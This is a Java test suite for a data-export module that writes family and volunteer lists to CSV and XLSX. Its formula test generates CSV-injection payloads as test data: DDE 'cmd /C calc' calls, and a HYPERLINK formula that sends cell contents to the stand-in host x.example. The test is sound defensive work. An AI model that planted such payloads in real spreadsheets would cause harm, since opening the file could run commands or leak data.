package nl.koppelwerk.data.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import nl.koppelwerk.data.database.DatabaseExtension;
import nl.koppelwerk.data.database.TestDatabase;
import nl.koppelwerk.data.format.FileLimits;
import nl.koppelwerk.data.format.Formulas;
import nl.koppelwerk.data.imports.ImportOutcome;
import nl.koppelwerk.data.imports.Importing;
import nl.koppelwerk.data.imports.row.FamilyTable;
import nl.koppelwerk.data.sample.SampleCity;
import nl.koppelwerk.data.sample.SampleOrganisation;
import nl.koppelwerk.data.store.Organisations;
import nl.koppelwerk.data.store.Programmes;
import nl.koppelwerk.data.view.person.Search;
import nl.koppelwerk.domain.programme.OrganisationId;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

@ExtendWith(DatabaseExtension.class)
class ExportingTest {
    private static final Clock CLOCK =
            Clock.fixed(Instant.parse("2026-11-21T09:30:00Z"), ZoneId.of("Europe/Amsterdam"));
    private static TestDatabase database;
    private static OrganisationId organisation;
    private static Importing importing;

    @TempDir
    static Path folder = Path.of("");

    @BeforeAll
    static void aCity(TestDatabase given) {
        database = given;
        organisation = new SampleOrganisation(
                        new Organisations(database.jdbc(), database.scope()),
                        new Programmes(database.jdbc()),
                        database.scope())
                .found("exporting");
        importing = new Importing(database.jdbc(), database.scope(), CLOCK, FileLimits.DEFAULT);
        imported(Path.of("reference", "postcodes.csv"));
        imported(Path.of("sample", SampleCity.FAMILIES_FILE));
        imported(Path.of("sample", SampleCity.VOLUNTEERS_FILE));
    }

    private static ImportOutcome.Imported imported(Path file) {
        return (ImportOutcome.Imported) importing.importFile(
                organisation, new Importing.Offer(file, String.valueOf(file.getFileName()), folder), rows -> {});
    }

    private static byte[] export(boolean families, Search search, FileKind kind) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        database.scope().inside(organisation, () -> write(families, search, kind, out));
        return out.toByteArray();
    }

    private static int write(boolean families, Search search, FileKind kind, OutputStream out) {
        try {
            Exporting exporting = new Exporting(database.jdbc());
            return families ? exporting.families(search, kind, out) : exporting.volunteers(search, kind, out);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    @ParameterizedTest
    @EnumSource
    void whatIsExportedIsImportedAgainWithoutAChange(FileKind kind) throws IOException {
        for (boolean families : new boolean[] {true, false}) {
            byte[] file = export(families, Search.ALL, kind);
            Path path = Files.write(folder.resolve("list-" + families + "." + kind.extension()), file);

            ImportOutcome.Imported again = imported(path);

            assertThat(again.read()).isEqualTo(families ? 285 : 245);
            assertThat(again.rejected() + again.added() + again.changed()).isZero();
            assertThat(again.unusedColumns()).containsExactly(families ? "gesloten_op" : "stand");
        }
    }

    /** A file without the column, or with an empty cell, leaves the address there is. */
    @ParameterizedTest
    @EnumSource
    void addressesComeInGoOutAndComeInAgain(FileKind kind) throws IOException {
        String csv =
                new String(export(true, new Search("G-00018", "", "", "", ""), FileKind.CSV), StandardCharsets.UTF_8);
        String row = csv.split("\r?\n")[1];
        String given = "gezin-18." + kind.extension() + "@voorbeeld.nl";
        imported(Files.writeString(
                folder.resolve("before-" + kind),
                csv.replaceFirst(";[^;]*;G-00018-1;", ";" + given.toUpperCase() + ";G-00018-1;")));
        assertThat(row).contains("G-00018-1");

        byte[] out = export(true, new Search("G-00018", "", "", "", ""), kind);
        ImportOutcome.Imported again = imported(Files.write(folder.resolve("again." + kind.extension()), out));
        imported(Files.writeString(
                folder.resolve("empty-" + kind), csv.replaceFirst(";[^;]*;G-00018-1;", ";;G-00018-1;") + "\n"));

        assertThat(again.added() + again.changed() + again.rejected()).isZero();
        assertThat(new String(
                        export(true, new Search("G-00018", "", "", "", ""), FileKind.CSV), StandardCharsets.UTF_8))
                .contains(";" + given + ";G-00018-1;");
    }

    @Test
    void onlyWhatWasSearchedForIsExported() {
        String csv =
                new String(export(true, new Search("G-00017", "", "", "", ""), FileKind.CSV), StandardCharsets.UTF_8);

        assertThat(csv.lines()).hasSizeBetween(2, 3).element(1).asString().startsWith("G-00017;");
        assertThat(csv).startsWith("\uFEFFgezinsnummer;");
    }

    @Test
    void numbersAndDatesAreThoseOfADutchSpreadsheet() throws IOException {
        try (XSSFWorkbook book = new XSSFWorkbook(
                new ByteArrayInputStream(export(false, new Search("V-00002", "", "", "", ""), FileKind.XLSX)))) {
            Row row = book.getSheetAt(0).getRow(1);
            DataFormatter formatter = new DataFormatter(java.util.Locale.of("nl", "NL"));
            List<String> shown = new ArrayList<>();
            row.forEach(cell -> shown.add(formatter.formatCellValue(cell)));

            assertThat(shown).contains("V-00002", "12-10-2026", "25-08-2025");
            assertThat(row.getCell(11).getNumericCellValue()).isPositive();
        }
    }

    @ParameterizedTest
    @EnumSource
    void noTextIsALiveFormula(FileKind kind) throws IOException {
        List<String> payloads = payloads();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter file = kind.open(out, ListColumns.FAMILIES)) {
            for (String payload : payloads) {
                file.row(Map.of(FamilyTable.REFERENCE, "x", FamilyTable.NAME, payload, FamilyTable.HOURS, payload));
            }
        }

        List<String> cells = kind == FileKind.CSV ? csv(out.toByteArray()) : xlsx(out.toByteArray());

        assertThat(payloads).hasSize(1_000);
        assertThat(cells).hasSize(2 * payloads.size());
        for (int i = 0; i < cells.size(); i++) {
            assertThat(Formulas.undone(cells.get(i)).strip())
                    .isEqualTo(payloads.get(i / 2).strip());
        }
    }

    private static List<String> payloads() {
        Random random = new Random(41);
        List<String> starts =
                List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "\uFF1D", "\uFF0B", "|", "%", "=-+", "@@");
        List<String> bodies = List.of(
                "1+1",
                "cmd|' /C calc'!A0",
                "HYPERLINK(\"http://x.example?\"&A1,\"klik\")",
                "IMPORTXML(\"http://x.example\",\"//a\")",
                "SUM(A1:A9)",
                "DDE(\"cmd\";\"/C calc\";\"x\")",
                "\";=2+3;\"",
                "</t></is></c><f>1+1</f>",
                "_x003D_1+1",
                "<![CDATA[=1]]>&amp;");
        List<String> all = new ArrayList<>();
        while (all.size() < 1_000) {
            all.add(starts.get(random.nextInt(starts.size()))
                    + bodies.get(random.nextInt(bodies.size()))
                    + random.nextInt(1_000_000));
        }
        return all;
    }

    /** Cells as a spreadsheet program reads them; none may start a formula. */
    private static List<String> csv(byte[] file) {
        List<String> cells = new ArrayList<>();
        String text = new String(file, StandardCharsets.UTF_8);
        for (CsvRecord row : CsvReader.builder().fieldSeparator(';').ofCsvRecord(text).stream()
                .skip(1)
                .toList()) {
            for (int column : new int[] {1, ListColumns.FAMILIES.indexOf(FamilyTable.HOURS)}) {
                String cell = row.getField(column);
                assertThat(cell).doesNotMatch("(?s)\\s*[=+\\-@\uFF1D\uFF0B\t\r\n|%].*");
                cells.add(cell);
            }
        }
        return cells;
    }

    private static List<String> xlsx(byte[] file) throws IOException {
        List<String> cells = new ArrayList<>();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(file))) {
            for (Row row : book.getSheetAt(0)) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                    if (row.getRowNum() > 0 && cell.getColumnIndex() > 0) {
                        assertThat(cell.getCellStyle().getQuotePrefixed()).isTrue();
                        cells.add(cell.getStringCellValue());
                    }
                }
            }
        }
        return cells;
    }
}
